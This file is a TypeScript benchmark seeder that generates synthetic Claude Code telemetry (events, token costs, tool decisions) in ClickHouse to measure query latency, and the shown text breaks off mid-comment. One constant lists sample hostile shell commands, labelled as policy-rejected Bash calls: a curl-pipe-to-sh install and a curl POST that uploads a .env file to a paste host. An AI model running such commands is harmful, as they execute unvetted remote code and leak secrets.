/**
 * Benchmark seeder: fills the raw tables (`events`, `metric_points`) with Claude Code-shaped rows,
 * generated inside the engine by `INSERT INTO … SELECT … FROM numbers(…)`, so that API query latency
 * can be measured at 1 M, 10 M and 100 M events. Materialized views on the raw tables fire as they
 * would at ingest; nothing else is written directly.
 *
 *   tsx bench/seed.ts --events 1000000 [--users 500] [--days 30] [--data-dir ./data-bench] [--seed 1]
 *                     [--chunk 500000] [--end 2026-11-29T12:00:00Z]
 *
 * Every random choice is a hash of (seed, row number or session or user, salt): the same seed gives
 * the same rows (timestamps are relative to `end`, which defaults to now). All values spliced into the
 * SQL below are numbers computed here or code-owned constants, never input text.
 *
 * Shape:
 * - Sessions: event numbers are cut into blocks of 64, each split in two sessions at a hashed point
 *   (8…56 events each, 32 on average). A session starts with managed_settings_resolved and
 *   plugin_loaded, then turns of 10 events, each opened by a user_prompt; the other events are drawn
 *   from a weighted mix (api_request, assistant_response, tool_decision, tool_result, hook, mode change).
 * - Users `user0001@example.com`…: a session's user is ⌊users·x²⌋ for a uniform x, so low numbers are
 *   heavy users. Team, department and cost center follow from the user (departments and cost centers
 *   from the team), so they nest consistently.
 * - Time: session k of S starts at the (k + jitter)/S quantile of a weekday/working-hours activity
 *   curve (UTC) over `days` days ending at `end`; events follow every ~15 s. Sessions are in time
 *   order, so a chunk touches few daily partitions.
 * - Metric points: one per 4 events (point m belongs to the session of event 4m): session.count
 *   first, then cycles of cost.usage + 4 token.usage (consistent with the same prices) + active_time +
 *   lines_of_code + one of code_edit_tool.decision / lines_of_code / commit / pull_request. Delta
 *   temporality: `delta` = `value`.
 */
import os from 'node:os'
import { parseArgs } from 'node:util'
import path from 'node:path'
import { pathToFileURL } from 'node:url'
import { loadConfig } from '../server/config'
import { openWarehouse, selectRows, type Warehouse } from '../warehouse/client'
import { allViews } from '../collector/writer/rebuild'
import { migrate } from '../warehouse/migrate'

export interface SeedOptions {
  /** Number of `events` rows to write; about a quarter as many `metric_points` rows come with them. */
  events: number
  /** Distinct users (default 500). */
  users?: number
  /** Days of history, ending at `end` (default 30). */
  days?: number
  /** End of the time range (default now). */
  end?: Date
  /** Seed of every random choice (default 1). */
  seed?: number
  /** Events per INSERT (default 500 000). */
  chunkRows?: number
  /** Called after each chunk with the events written so far. */
  onProgress?: (done: number, total: number) => void
}

export interface SeedResult {
  events: number
  metricPoints: number
  seconds: number
}

// ---------------------------------------------------------------------------------------------------
// Vocabulary (code-owned constants, spliced into SQL as literals)

const TEAMS = ['web', 'mobile', 'platform', 'data', 'infra', 'security', 'payments', 'search', 'ml', 'growth', 'devex', 'support']
const DEPARTMENTS = ['engineering', 'product', 'data-science', 'operations']
const COST_CENTERS = ['CC-1000', 'CC-1100', 'CC-2000', 'CC-2100', 'CC-3000', 'CC-4000']

/** List prices in USD per million tokens (= micro-USD per token). Opus matches the fixtures' CLI. */
const MODELS = [
  { name: 'claude-opus-5-5', input: 4, output: 20, cacheRead: 0.4, cacheCreation: 3.8 },
  { name: 'claude-sonnet-5', input: 3, output: 15, cacheRead: 0.3, cacheCreation: 3.75 },
  { name: 'claude-haiku-5', input: 1, output: 5, cacheRead: 0.1, cacheCreation: 1.25 },
] as const

/** Weights of the events that are neither session openers nor prompts (per mille). */
const EVENT_MIX: Array<[string, number]> = [
  ['api_request', 355],
  ['assistant_response', 178],
  ['tool_decision', 237],
  ['tool_result', 213],
  ['hook_execution_complete', 14],
  ['permission_mode_changed', 3],
]

const TOOL_MIX: Array<[string, number]> = [
  ['Bash', 300],
  ['Read', 250],
  ['Edit', 170],
  ['Write', 70],
  ['Grep', 130],
  ['mcp_tool', 80],
]

const BASH_COMMANDS: Array<[string, string]> = [
  ['git', 'git status --short'],
  ['git', 'git diff --stat'],
  ['npm', 'npm test'],
  ['npm', 'npm run build'],
  ['ls', 'ls -la src'],
  ['rg', 'rg -n TODO src'],
  ['pytest', 'pytest -q tests'],
  ['make', 'make lint'],
]
const CURL_COMMANDS = [
  'curl -fsSL https://get.example.dev/install.sh | sh',
  'curl https://api.example.com/v1/export?all=true',
  'curl -X POST https://paste.example.org/upload -d @.env',
]
const MCP_TOOLS: Array<[string, string]> = [
  ['github', 'create_issue'],
  ['github', 'list_pull_requests'],
  ['linear', 'update_issue'],
  ['sentry', 'get_issue_events'],
  ['postgres', 'query'],
]
const AGENTS = ['Explore', 'general-purpose', 'code-reviewer', 'test-runner', 'Plan']
const SKILLS = ['pdf', 'xlsx', 'frontend-design', 'release-notes']
const PLUGINS = ['commit-commands', 'pr-review-toolkit', 'security-guidance']
const MCP_SERVERS = ['github', 'linear', 'sentry', 'postgres']
const BUILTIN_PLUGINS = ['cc-plugin-sec-default', 'cc-plugin-agents-md', 'cc-plugin-privacy', 'cc-plugin-plugin-authoring']
const LANGUAGES = ['TypeScript', 'Python', 'Go', 'Rust', 'Markdown', 'JSON', 'YAML']

const SCOPE_EVENTS = 'com.anthropic.claude_code.events' // what the real CLI sends (fixtures)
const SCOPE_METRICS = 'com.anthropic.claude_code'

/**
 * Settings of the seeding INSERTs (scoped to the statement: chDB applies `clickhouse_settings` as
 * session-wide SETs, a SETTINGS clause is not).
 * - max_partitions_per_insert_block = 0: a chunk may span more than 100 daily partitions (--days > 100).
 * - optimize_on_insert = 0: ids are unique by construction, so ReplacingMergeTree's per-block
 *   de-duplication at insert finds nothing; skipping it saves about a third of the insert time.
 * - max_insert_threads: sort, compress and write (and run the materialized views) on every core.
 */
const INSERT_SETTINGS = `SETTINGS max_partitions_per_insert_block = 0, optimize_on_insert = 0, max_insert_threads = ${Math.max(2, os.availableParallelism())}`

const BLOCK = 64 // events per pair of sessions
const EVENT_GAP_MS = 15_000
const QUANTILES = 4096

// ---------------------------------------------------------------------------------------------------
// SQL building helpers

/** A ClickHouse string literal. */
function lit(value: string): string {
  return `'${value.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`
}

function arr(values: readonly string[]): string {
  return `[${values.map(lit).join(', ')}]`
}

function num(value: number): string {
  if (!Number.isFinite(value)) throw new Error(`not a finite number: ${value}`)
  return String(value)
}

/** values[hash % length], 1-based. */
function pick(values: readonly string[], hash: string): string {
  return `${arr(values)}[1 + (${hash}) % ${values.length}]`
}

/** A choice by weights, from r uniform in [0, sum of weights). */
function weighted(entries: ReadonlyArray<[string, number]>, r: string): string {
  let acc = 0
  const parts: string[] = []
  entries.forEach(([value, weight], i) => {
    acc += weight
    if (i < entries.length - 1) parts.push(`${r} < ${acc}`, lit(value))
    else parts.push(lit(value))
  })
  return `multiIf(${parts.join(', ')})`
}

function total(entries: ReadonlyArray<[string, number]>): number {
  return entries.reduce((sum, [, w]) => sum + w, 0)
}

/** A UUID from two 64-bit hashes. */
function uuidOf(hi: string, lo: string): string {
  return `reinterpretAsUUID(bitOr(bitShiftLeft(toUInt128(${hi}), 64), toUInt128(${lo})))`
}

/**
 * A bijection of UInt64 that looks random (xor with a key, multiply by an odd constant, xor-shift):
 * half of each row id, so that ids are unique by construction yet spread like the content hashes
 * ingest computes (sequential ids would compress and index unrealistically well).
 */
function scramble(x: string, key: string): string {
  return `bitXor(bitXor(${x}, ${key}) * 11400714819323198485, bitShiftRight(bitXor(${x}, ${key}) * 11400714819323198485, 31))`
}

/** A map of string pairs; pairs whose value is '' are left out when `optional`. */
function strMap(pairs: Array<[string, string]>): string {
  return `map(${pairs.map(([k, v]) => `${lit(k)}, ${v}`).join(', ')})`
}
function optionalMap(pairs: Array<[string, string]>): string {
  return `mapFilter((mk, mv) -> mv != '', ${strMap(pairs)})`
}

// ---------------------------------------------------------------------------------------------------
// Time: quantiles of a weekday / working-hours activity curve

const HOUR_MS = 3_600_000
/** Relative activity by UTC hour of day. */
const HOUR_WEIGHT = [
  0.05, 0.04, 0.04, 0.04, 0.05, 0.08, 0.15, 0.4, 0.8, 1, 1, 1, 0.7, 0.9, 1, 1, 0.9, 0.7, 0.4, 0.25, 0.2, 0.15, 0.1, 0.07,
]
/** Relative activity by UTC day of week (Sunday = 0). */
const DAY_WEIGHT = [0.1, 1, 1, 1, 1, 0.95, 0.15]

/** A number in [0, 1) from two integers (a 32-bit integer hash): for the few choices made here in JS. */
function unitHash(a: number, b: number): number {
  let x = Math.imul(a ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(b ^ 0xc2b2ae35, 0x27d4eb2f)
  x = Math.imul(x ^ (x >>> 15), 0x2c1b3c6d)
  x = Math.imul(x ^ (x >>> 12), 0x297a2d39)
  return ((x ^ (x >>> 15)) >>> 0) / 4294967296
}

/**
 * Hours after `startMs` at which the activity curve's cumulative share reaches 0, 1/K, …, 1: session
 * start k/S is interpolated in this table, which gives the rhythm without any per-row loop.
 */
function activityQuantiles(startMs: number, endMs: number, seed: number, k = QUANTILES): number[] {
  const segments: Array<{ t0: number; t1: number; mass: number }> = []
  for (let t = startMs; t < endMs; ) {
    const next = Math.min(endMs, (Math.floor(t / HOUR_MS) + 1) * HOUR_MS)
    const d = new Date(t)
    // ±20 % from day to day (a release day, a team offsite…), fixed by the seed and the calendar day.
    const dayNoise = 0.8 + 0.4 * unitHash(seed, Math.floor(t / 86_400_000))
    const weight = dayNoise * (DAY_WEIGHT[d.getUTCDay()] ?? 1) * (HOUR_WEIGHT[d.getUTCHours()] ?? 1)
    segments.push({ t0: t, t1: next, mass: weight * (next - t) })
    t = next
  }
  const totalMass = segments.reduce((sum, s) => sum + s.mass, 0)
  const out: number[] = []
  let acc = 0
  let i = 0
  for (let q = 0; q <= k; q++) {
    const target = (totalMass * q) / k
    while (i < segments.length - 1 && acc + (segments[i]?.mass ?? 0) < target) {
      acc += segments[i]?.mass ?? 0
      i++
    }
    const s = segments[i]
    if (!s) throw new Error('empty time range')
    const within = s.mass > 0 ? Math.min(1, Math.max(0, (target - acc) / s.mass)) : 0
    out.push((s.t0 + within * (s.t1 - s.t0) - startMs) / HOUR_MS)
  }
  return out
}

// ---------------------------------------------------------------------------------------------------
// The queries

interface Plan {
  seed: number
  users: number
  totalEvents: number
  sessions: number
  startMs: number
  endMs: number
  quantiles: string
}

/** Salted hash of the row's seed and the given parts. */
function makeHash(seed: number) {
  return (...parts: Array<string | number>): string =>
    `cityHash64(${num(seed)}, ${parts.map((p) => (typeof p === 'number' ? num(p) : p)).join(', ')})`
}
/** A salt: a string literal mixed into a hash. */
const salt = lit

/**
 * Columns every row derives from its event number `n` (for a metric point, 4·m): session, user,
 * team, session start. Used by both queries, so that metric points share the events' sessions.
 */
function sessionColumns(plan: Plan, nExpr: string): string {
  const h = makeHash(plan.seed)
  const U = num(plan.users)
  const modelNames = MODELS.map((m) => m.name)
  return `
    ${nExpr} AS n,
    org_id AS org,
    intDiv(n, ${BLOCK}) AS blk,
    n % ${BLOCK} AS off,
    8 + ${h('blk', salt('split'))} % ${BLOCK - 16} AS split,
    off >= split AS second,
    blk * 2 + second AS sess,
    toInt64(if(second, off - split, off)) AS seq,
    blk * ${BLOCK} + if(second, split, 0) AS sess_first,
    least(${U} - 1, toUInt64(floor(${U} * pow(${h('sess', salt('user'))} / 18446744073709551616.0, 2)))) AS u,
    concat('user', leftPad(toString(u + 1), 4, '0'), '@example.com') AS email,
    ${h('u', salt('team'))} % ${TEAMS.length} AS team_i,
    ${arr(TEAMS)}[team_i + 1] AS team,
    ${arr(DEPARTMENTS)}[team_i % ${DEPARTMENTS.length} + 1] AS dept,
    ${arr(COST_CENTERS)}[team_i % ${COST_CENTERS.length} + 1] AS cost_center,
    lower(concat(hex(${h('u', salt('uid1'))}), hex(${h('u', salt('uid2'))}), hex(${h('u', salt('uid3'))}), hex(${h('u', salt('uid4'))}))) AS user_id,
    toString(${uuidOf(h('sess', salt('sid1')), h('sess', salt('sid2')))}) AS session_id,
    ${weighted(
      [
        ['2.1.328', 70],
        ['2.1.327', 20],
        ['2.1.300', 10],
      ],
      `${h('u', salt('ver'))} % 100`,
    )} AS version,
    ${h('u', salt('os'))} % 100 AS os_r,
    multiIf(os_r < 60, 'darwin', os_r < 95, 'linux', 'windows') AS os_type,
    multiIf(os_r < 60, '25.1.0', os_r < 95, '6.8.0-52-generic', '10.0.26100') AS os_version,
    if(os_r < 45 OR (os_r >= 90 AND os_r < 95), 'arm64', 'amd64') AS host_arch,
    ${weighted(
      [
        ['vscode', 35],
        ['iTerm.app', 25],
        ['tmux', 15],
        ['non-interactive', 10],
        ['cursor', 10],
        ['Apple_Terminal', 5],
      ],
      `${h('sess', salt('term'))} % 100`,
    )} AS terminal,
    ${arr(modelNames)}[1 + multiIf(${h('sess', salt('model'))} % 100 < 40, 0, ${h('sess', salt('model'))} % 100 < 90, 1, 2)] AS sess_model,
    (sess + (${h('sess', salt('jitter'))} % 1000000) / 1000000.0) / ${num(plan.sessions)} * ${QUANTILES} AS qpos,
    least(toUInt32(floor(qpos)), ${QUANTILES - 1}) AS qi,
    q[qi + 1] + (q[qi + 2] - q[qi + 1]) * (qpos - qi) AS start_h,
    ${num(plan.startMs)} + toInt64(start_h * ${HOUR_MS}) AS sess_ms,
    ${strMap([
      ['host.arch', 'host_arch'],
      ['os.type', 'os_type'],
      ['os.version', 'os_version'],
      ['service.name', "'claude-code'"],
      ['service.version', 'version'],
      ['department', 'dept'],
      ['team.id', 'team'],
      ['cost_center', 'cost_center'],
      ['enduser.id', 'email'],
    ])} AS resource,
    ${strMap([
      ['department', 'dept'],
      ['team.id', 'team'],
      ['cost_center', 'cost_center'],
      ['enduser.id', 'email'],
      ['user.email', 'email'],
      ['user.id', 'user_id'],
      ['session.id', 'session_id'],
      ['organization.id', 'org_id'],
      ['terminal.type', 'terminal'],
    ])} AS identity_attrs`
}

function withClause(plan: Plan): string {
  const h = makeHash(plan.seed)
  return `WITH ${plan.quantiles} AS q, toString(${uuidOf(h(salt('org1')), h(salt('org2')))}) AS org_id`
}

/** Micro-USD of a request's tokens at the list price of model index `mi` (0-based). */
function costMicros(mi: string, input: string, output: string, cacheRead: string, cacheCreation: string): string {
  const prices = (key: 'input' | 'output' | 'cacheRead' | 'cacheCreation') => `[${MODELS.map((m) => num(m[key])).join(', ')}][${mi} + 1]`
  return `toUInt64(round(${input} * ${prices('input')} + ${output} * ${prices('output')} + ${cacheRead} * ${prices('cacheRead')} + ${cacheCreation} * ${prices('cacheCreation')}))`
}

function modelIndex(model: string): string {
  return `indexOf(${arr(MODELS.map((m) => m.name))}, ${model}) - 1`
}

/** Attribution keys (agent, skill, plugin, MCP server), present on some requests. */
function attribution(hash: (...parts: Array<string | number>) => string, key: string, querySource: string): Array<[string, string]> {
  return [
    ['agent.name', `if(${querySource} = 'subagent', ${pick(AGENTS, hash(key, salt('agent')))}, '')`],
    ['skill.name', `if(${hash(key, salt('skill?'))} % 100 < 6, ${pick(SKILLS, hash(key, salt('skill')))}, '')`],
    ['plugin.name', `if(${hash(key, salt('plugin?'))} % 100 < 5, ${pick(PLUGINS, hash(key, salt('plugin')))}, '')`],
    ['mcp_server.name', `if(${hash(key, salt('mcp?'))} % 100 < 4, ${pick(MCP_SERVERS, hash(key, salt('mcp')))}, '')`],
  ]
}

function eventsInsert(plan: Plan, from: number, count: number): string {
  const h = makeHash(plan.seed)
  const turn = 10
  const isoTime = `concat(formatDateTime(toDateTime(intDiv(ms, 1000), 'UTC'), '%Y-%m-%dT%H:%i:%S'), '.', leftPad(toString(ms % 1000), 3, '0'), 'Z')`
  const bash = (key: string) => `${h('n', salt(key))} % ${BASH_COMMANDS.length} + 1`
  const mcp = (key: string) => `${h('n', salt(key))} % ${MCP_TOOLS.length} + 1`
  const toolParams = `multiIf(
      tool = 'Bash' AND decision = 'reject' AND source = 'config',
        concat('{"bash_command":"curl","full_command":"', ${pick(CURL_COMMANDS, h('n', salt('curl')))}, '"}'),
      tool = 'Bash',
        concat('{"bash_command":"', ${arr(BASH_COMMANDS.map((c) => c[0]))}[${bash('bash')}], '","full_command":"', ${arr(BASH_COMMANDS.map((c) => c[1]))}[${bash('bash')}], '"}'),
      tool = 'mcp_tool',
        concat('{"mcp_server_name":"', ${arr(MCP_TOOLS.map((c) => c[0]))}[${mcp('mcpt')}], '","mcp_tool_name":"', ${arr(MCP_TOOLS.map((c) => c[1]))}[${mcp('mcpt')}], '"}'),
      '')`
  const withPrompt: Array<[string, string]> = [['prompt.id', 'prompt_id']]
  const common: Array<[string, string]> = [
    ['event.name', 'ev'],
    ['event.timestamp', isoTime],
    ['event.sequence', 'toString(seq)'],
  ]
  const specific = `multiIf(
    ev = 'api_request', mapConcat(${strMap([
      ...withPrompt,
      ['model', 'model'],
      ['input_tokens', 'toString(in_tok)'],
      ['output_tokens', 'toString(out_tok)'],
      ['cache_read_tokens', 'toString(cr_tok)'],
      ['cache_creation_tokens', 'toString(cc_tok)'],
      ['cost_usd', 'toString(micros / 1000000)'],
      ['cost_usd_micros', 'toString(micros)'],
      ['duration_ms', 'toString(dur)'],
      ['ttft_ms', 'toString(300 + dur % 2000)'],
      ['request_id', 'request_id'],
      ['speed', "'normal'"],
      ['query_source', 'qsrc'],
      ['effort', `${pick(['medium', 'high', 'low'], h('sess', salt('effort')))}`],
    ])}, ${optionalMap(attribution(h, 'n', 'qsrc'))}),
    ev = 'tool_decision', mapConcat(${strMap([
      ...withPrompt,
      ['decision', 'decision'],
      ['source', 'source'],
      ['tool_name', 'tool'],
      ['tool_use_id', 'tool_use_id'],
      ['tool_source', 'tool_source'],
      ['permission_mode', "'default'"],
      ['request_id', 'request_id'],
    ])}, ${optionalMap([['tool_parameters', 'tool_params']])}),
    ev = 'tool_result', mapConcat(${strMap([
      ...withPrompt,
      ['tool_name', 'tool'],
      ['tool_use_id', 'tool_use_id'],
      ['success', "if(ok, 'true', 'false')"],
      ['duration_ms', 'toString(dur % 20000)'],
      ['tool_input_size_bytes', `toString(20 + ${h('n', salt('insz'))} % 4000)`],
      ['tool_result_size_bytes', `toString(${h('n', salt('outsz'))} % 50000)`],
      ['request_id', 'request_id'],
    ])}, ${optionalMap([
      ['tool_parameters', 'tool_params'],
      ['error_type', "if(ok, '', 'tool_error')"],
    ])}),
    ev = 'assistant_response', ${strMap([
      ...withPrompt,
      ['response_length', `toString(20 + ${h('n', salt('resp'))} % 6000)`],
      ['response', "'<REDACTED>'"],
      ['request_id', 'request_id'],
      ['model', 'model'],
      ['query_source', 'qsrc'],
    ])},
    ev = 'user_prompt', ${strMap([
      ...withPrompt,
      ['prompt_length', `toString(5 + ${h('n', salt('plen'))} % 2000)`],
      ['prompt', "'<REDACTED>'"],
    ])},
    ev = 'hook_execution_complete', ${strMap([
      ...withPrompt,
      ['hook_event', 'hook_event'],
      ['hook_name', "concat(hook_event, ':', if(hook_event = 'PreToolUse', 'Bash', '*'))"],
      ['num_hooks', `toString(1 + ${h('n', salt('nhooks'))} % 3)`],
      ['num_blocking', `if(${h('n', salt('blocking'))} % 10 = 0, '1', '0')`],
      ['hook_source', weighted([['policySettings', 40], ['userSettings', 40], ['projectSettings', 20]], `${h('n', salt('hooksrc'))} % 100`)],
      ['managed_only', "'false'"],
    ])},
    ev = 'permission_mode_changed', ${strMap([
      ...withPrompt,
      ['from_mode', "'default'"],
      ['to_mode', weighted([['plan', 40], ['acceptEdits', 40], ['auto', 15], ['bypassPermissions', 5]], `${h('n', salt('mode'))} % 100`)],
      ['trigger', pick(['shift_tab', 'slash_command'], h('n', salt('trigger')))],
    ])},
    ev = 'managed_settings_resolved', ${strMap([
      ['managed_settings.trigger', "'startup'"],
      ['managed_settings.sources', `'["file"]'`],
      ['managed_settings.source_behavior', "'first-wins'"],
      ['managed_settings.helper.state', "'none'"],
      ['managed_settings.helper.applied', "'none'"],
    ])},
    ${strMap([
      ['plugin.name', pick(BUILTIN_PLUGINS, h('sess', salt('bplugin')))],
      ['marketplace.name', "'builtin'"],
      ['plugin.scope', "'default-bundle'"],
      ['enabled_via', "'default-enable'"],
      ['has_hooks', "'true'"],
      ['has_mcp', "'false'"],
    ])})`
  const has = (names: string[]) => `ev IN (${names.map(lit).join(', ')})`

  return `INSERT INTO events (
    id, timestamp, observed_timestamp, event_name, body, severity_text, severity_number, trace_id, span_id,
    user_key, user_email, enduser_id, user_account_uuid, user_id, organization_id, session_id, prompt_id, event_sequence,
    team_id, department, cost_center, service_name, service_version, terminal_type, model, query_source,
    tool_name, tool_source, decision, source, request_id, cost_usd, input_tokens, output_tokens, cache_read_tokens,
    cache_creation_tokens, duration_ms, attributes, resource_attributes, scope_name, scope_version, scope_attributes,
    session_start)
  ${INSERT_SETTINGS}
  SELECT
    ${uuidOf(h('n', salt('id')), scramble('n', h(salt('id-lo'))))},
    fromUnixTimestamp64Milli(ms, 'UTC'),
    fromUnixTimestamp64Milli(ms, 'UTC'),
    ev,
    concat('claude_code.', ev),
    '', 0, '', '',
    email, email, email, '', user_id, org, session_id, prompt_id, toUInt64(seq),
    team, dept, cost_center, 'claude-code', version, terminal,
    if(${has(['api_request', 'assistant_response'])}, model, ''),
    if(${has(['api_request', 'assistant_response'])}, qsrc, ''),
    if(${has(['tool_decision', 'tool_result'])}, tool, ''),
    if(ev = 'tool_decision', tool_source, ''),
    if(ev = 'tool_decision', decision, ''),
    if(ev = 'tool_decision', source, ''),
    if(${has(['api_request', 'assistant_response', 'tool_decision', 'tool_result'])}, request_id, ''),
    if(ev = 'api_request', micros / 1000000, 0),
    if(ev = 'api_request', in_tok, 0),
    if(ev = 'api_request', out_tok, 0),
    if(ev = 'api_request', cr_tok, 0),
    if(ev = 'api_request', cc_tok, 0),
    multiIf(ev = 'api_request', dur, ev = 'tool_result', dur % 20000, 0),
    mapConcat(identity_attrs, ${strMap(common)}, ${specific}),
    resource,
    ${lit(SCOPE_EVENTS)}, version, map(),
    -- What the writer marks (collector/writer/sessions.ts): a session's first record, here its first event.
    toUInt8(seq = 0)
  FROM
  (
    ${withClause(plan)}
    SELECT
      ${sessionColumns(plan, 'number')},
      toInt64(least(${num(plan.endMs)}, sess_ms + seq * ${EVENT_GAP_MS} + toInt64(${h('n', salt('t'))} % ${EVENT_GAP_MS}))) AS ms,
      ${h('n', salt('ev'))} % ${total(EVENT_MIX)} AS ev_r,
      multiIf(seq = 0, 'managed_settings_resolved', seq = 1, 'plugin_loaded', (seq - 2) % ${turn} = 0, 'user_prompt',
        ${weighted(EVENT_MIX, 'ev_r')}) AS ev,
      if(seq < 2, '', toString(${uuidOf(h('sess', 'intDiv(seq - 2, 10)', salt('p1')), h('sess', 'intDiv(seq - 2, 10)', salt('p2')))})) AS prompt_id,
      ${h('n', salt('qs'))} % 100 AS qs_r,
      multiIf(ev = 'assistant_response' OR qs_r < 82, 'main', qs_r < 94, 'subagent', 'auxiliary') AS qsrc,
      if(qsrc = 'auxiliary', 'claude-haiku-5', sess_model) AS model,
      5 + ${h('n', salt('in'))} % 2500 AS in_tok,
      if(qsrc = 'auxiliary', 10 + ${h('n', salt('out'))} % 300, 20 + ${h('n', salt('out'))} % 2400) AS out_tok,
      if(qsrc = 'auxiliary', ${h('n', salt('cr'))} % 3000, 8000 + toUInt64(seq) * 2500 + ${h('n', salt('cr'))} % 40000) AS cr_tok,
      ${h('n', salt('cc'))} % 6000 AS cc_tok,
      ${costMicros(modelIndex('model'), 'in_tok', 'out_tok', 'cr_tok', 'cc_tok')} AS micros,
      800 + ${h('n', salt('dur'))} % 30000 AS dur,
      concat('req_', lower(hex(${h('sess', 'intDiv(seq, 3)', salt('req'))}))) AS request_id,
      concat('toolu_', lower(hex(${h('sess', 'intDiv(seq, 2)', salt('tool'))}))) AS tool_use_id,
      ${h('n', salt('dec'))} % 1000 AS dr,
      if(ev = 'tool_decision' AND dr >= 920, 'reject', 'accept') AS decision,
      multiIf(dr < 560, 'config', dr < 800, 'user_temporary', dr < 880, 'user_permanent', dr < 920, 'hook',
        dr < 955, 'config', dr < 985, 'user_reject', dr < 993, 'hook', 'user_abort') AS source,
      if(ev = 'tool_decision' AND decision = 'reject' AND source = 'config' AND ${h('n', salt('policy-bash'))} % 10 < 9,
        'Bash', ${weighted(TOOL_MIX, `${h('n', salt('tool'))} % ${total(TOOL_MIX)}`)}) AS tool,
      if(tool = 'mcp_tool', 'mcp', 'builtin') AS tool_source,
      ${toolParams} AS tool_params,
      ${h('n', salt('ok'))} % 100 < 95 AS ok,
      ${weighted([['PreToolUse', 60], ['PostToolUse', 25], ['UserPromptSubmit', 10], ['Stop', 5]], `${h('n', salt('hook'))} % 100`)} AS hook_event
    FROM numbers(${num(from)}, ${num(count)})
  )`
}

function metricsInsert(plan: Plan, from: number, count: number): string {
  const h = makeHash(plan.seed)
  const cyc = (key: string) => h('sess', 'c', salt(key))
  const tokenTypes = ['input', 'output', 'cacheRead', 'cacheCreation']
  return `INSERT INTO metric_points (
    id, series_id, metric_name, metric_type, temporality, is_monotonic, unit, start_timestamp, timestamp,
    value, delta, count, user_key, user_email, enduser_id, user_account_uuid, user_id, organization_id, session_id,
    team_id, department, cost_center, service_name, service_version, terminal_type, type, model, query_source,
    tool_name, decision, source, language, attributes, resource_attributes, scope_name, scope_version, scope_attributes)
  ${INSERT_SETTINGS}
  SELECT
    ${uuidOf(h('m', salt('mid')), scramble('m', h(salt('mid-lo'))))},
    ${uuidOf(h('sess', 'metric', 'mtype', 'mmodel', 'mqs', 'mtool', 'mdecision', 'msource', 'mlang', 'attrib', salt('s1')), h('sess', 'metric', 'mtype', 'mmodel', 'mqs', 'mtool', 'mdecision', 'msource', 'mlang', 'attrib', salt('s2')))},
    metric, 'sum', 'delta', true, unit,
    fromUnixTimestamp64Milli(ts_ms - 60000, 'UTC'),
    fromUnixTimestamp64Milli(ts_ms, 'UTC'),
    value, value, 0,
    email, email, email, '', user_id, org, session_id,
    team, dept, cost_center, 'claude-code', version, terminal,
    mtype, mmodel, mqs, mtool, mdecision, msource, mlang,
    mapConcat(identity_attrs, mapFilter((mk, mv) -> mv != '', map(
      'start_type', start_type, 'model', mmodel, 'query_source', mqs, 'effort', meffort, 'type', mtype,
      'tool_name', mtool, 'decision', mdecision, 'source', msource, 'language', mlang)), attrib_map),
    resource,
    ${lit(SCOPE_METRICS)}, version, map()
  FROM
  (
    ${withClause(plan)}
    SELECT
      number AS m,
      ${sessionColumns(plan, 'number * 4')},
      toInt64(m) - toInt64(intDiv(sess_first + 3, 4)) AS k,
      (k - 1) % 8 AS j,
      intDiv(k - 1, 8) AS c,
      ${h('m', salt('mr'))} % 1000 AS mr,
      multiIf(k = 0, 'claude_code.session.count', j = 0, 'claude_code.cost.usage', j <= 4, 'claude_code.token.usage',
        j = 5, 'claude_code.active_time.total', j = 6, 'claude_code.lines_of_code.count',
        mr < 500, 'claude_code.code_edit_tool.decision', mr < 750, 'claude_code.lines_of_code.count',
        mr < 930, 'claude_code.commit.count', 'claude_code.pull_request.count') AS metric,
      multiIf(metric = 'claude_code.cost.usage', 'USD', metric = 'claude_code.token.usage', 'tokens',
        metric = 'claude_code.active_time.total', 's', '') AS unit,
      multiIf(metric = 'claude_code.token.usage', ${arr(tokenTypes)}[j],
        metric = 'claude_code.active_time.total', if(mr % 3 = 0, 'user', 'cli'),
        metric = 'claude_code.lines_of_code.count', if(mr % 10 < 7, 'added', 'removed'), '') AS mtype,
      metric IN ('claude_code.cost.usage', 'claude_code.token.usage') AS is_usage,
      if(${cyc('qs')} % 100 < 85, 'main', 'subagent') AS cyc_qs,
      if(is_usage OR metric = 'claude_code.lines_of_code.count', sess_model, '') AS mmodel,
      if(is_usage, cyc_qs, '') AS mqs,
      if(is_usage, ${pick(['medium', 'high', 'low'], h('sess', salt('effort')))}, '') AS meffort,
      if(k = 0, ${weighted([['fresh', 80], ['resume', 15], ['continue', 5]], `${h('sess', salt('start'))} % 100`)}, '') AS start_type,
      metric = 'claude_code.code_edit_tool.decision' AS is_edit,
      if(is_edit, ${weighted([['Edit', 70], ['Write', 25], ['NotebookEdit', 5]], `${h('m', salt('etool'))} % 100`)}, '') AS mtool,
      ${h('m', salt('edec'))} % 100 AS edr,
      if(is_edit, if(edr < 90, 'accept', 'reject'), '') AS mdecision,
      if(is_edit, multiIf(edr < 50, 'config', edr < 80, 'user_temporary', edr < 90, 'user_permanent', edr < 97, 'user_reject', 'config'), '') AS msource,
      if(is_edit, ${pick(LANGUAGES, h('m', salt('lang')))}, '') AS mlang,
      if(is_usage, ${optionalMap(attribution(h, 'sess, c', 'cyc_qs'))}, CAST(map(), 'Map(String, String)')) AS attrib_map,
      toString(mapSort(attrib_map)) AS attrib,
      200 + ${cyc('tin')} % 5000 AS t_in,
      40 + ${cyc('tout')} % 4000 AS t_out,
      20000 + ${cyc('tcr')} % 150000 AS t_cr,
      ${cyc('tcc')} % 10000 AS t_cc,
      multiIf(
        k = 0, 1,
        metric = 'claude_code.cost.usage', ${costMicros(modelIndex('sess_model'), 't_in', 't_out', 't_cr', 't_cc')} / 1000000,
        metric = 'claude_code.token.usage', toFloat64([t_in, t_out, t_cr, t_cc][j]),
        metric = 'claude_code.active_time.total', if(mtype = 'user', 5 + (mr * 7919 % 115000) / 1000, (mr * 104729 % 60000) / 1000),
        metric = 'claude_code.lines_of_code.count', toFloat64(if(mtype = 'added', 1 + ${h('m', salt('loc'))} % 200, 1 + ${h('m', salt('loc'))} % 80)),
        1) AS value,
      toInt64(least(${num(plan.endMs)}, sess_ms + (k + 1) * 60000)) AS ts_ms
    FROM numbers(${num(from)}, ${num(count)})
  )`
}

// ---------------------------------------------------------------------------------------------------

function positiveInt(name: string, value: number): number {
  if (!Number.isInteger(value) || value <= 0) throw new Error(`${name} must be a positive integer (got ${value})`)
  return value
}

/**
 * Writes `options.events` events (and about a quarter as many metric points) into the raw tables,
 * chunk by chunk, each chunk one INSERT … SELECT per table evaluated by the engine.
 */
/**
 * What the writer does while it writes metric points (collector/writer/orphans.ts): it marks the cost/token
